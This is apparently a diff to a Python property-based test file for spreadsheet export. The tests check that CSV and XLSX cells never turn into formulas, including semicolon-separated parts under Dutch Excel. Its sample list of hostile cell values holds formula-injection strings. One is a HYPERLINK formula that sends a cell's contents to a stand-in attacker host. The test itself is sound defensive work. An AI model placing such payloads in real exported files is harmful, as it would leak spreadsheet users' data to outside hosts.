@@ -190,12 +190,16 @@ async def test_booleans_and_nulls_are_written_as_json_writes_them(api: Api, geme
 # --- no text is ever a formula -------------------------------------------------------------
 
 _HOSTILE = st.sampled_from(['=HYPERLINK("http://evil.example/?"&A1,"klik")', "=1+1", "+1", "-1", "@SUM(A1)", "\t=1",
-                            "\r=1", "#N/A", "'=1", '"=1"', "=", "-2261600"])
+                            "\r=1", "#N/A", "'=1", '"=1"', "=", "-2261600", "a;=1+1", ";-1", "x;;@A1"])
 REFERENCES = st.one_of(st.text(max_size=30), st.builds(lambda a, b: a + b, _HOSTILE, st.text(max_size=15)))
 
 
 def _as_csv_cell(text: str | None) -> str:
-    return "" if text is None else "'" + text if text.startswith(FORMULA_START) else text
+    """Each part that would start a cell (the text, and in Dutch Excel each part after a
+    semicolon) with a ' in front where it starts like a formula."""
+    if text is None:
+        return ""
+    return ";".join("'" + part if part.startswith(FORMULA_START) else part for part in text.split(";"))
 
 
 def _as_xlsx_cell(text: str | None) -> str | None:
